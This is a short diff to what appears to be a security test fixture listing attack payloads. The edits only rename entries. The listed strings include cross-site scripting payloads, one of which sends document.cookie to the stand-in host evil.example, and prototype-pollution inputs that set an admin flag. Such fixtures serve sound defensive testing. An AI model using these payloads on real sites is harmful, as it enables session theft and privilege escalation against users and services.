@@ -14,7 +14,7 @@ ATTACKS = {
         "a handler with a template": "<svg onload=`a()`>",
         "a script": "<script>alert(document.domain)</script>",
         "a script from elsewhere": "<script src=//evil.example/x.js></script>",
-        "a script that is not closed": "<script>fetch('//evil.example/?'+document.cookie)//",
+        "a script that is cut off": "<script>fetch('//evil.example/?'+document.cookie)//",
         "a script with a slash": "<script/src='data:,x()'></script>",
         "a script in another case": "<ScRiPt >prompt(7)</sCrIpT>",
         "a script behind a broken attribute": '<script x=">" src="https://evil.example/a.js"></script>',
@@ -161,7 +161,7 @@ ATTACKS = {
     },
     "prototype": {
         "a path": "constructor.prototype.admin",
-        "a path": "__proto__[admin]=true",
+        "a path in brackets": "__proto__[admin]=true",
         "a path with a dot": "__proto__.admin=true",
         "a document": '{"__proto__": {"admin": true}}',
         "a document by the constructor": '{"constructor": {"prototype": {"admin": true}}}',
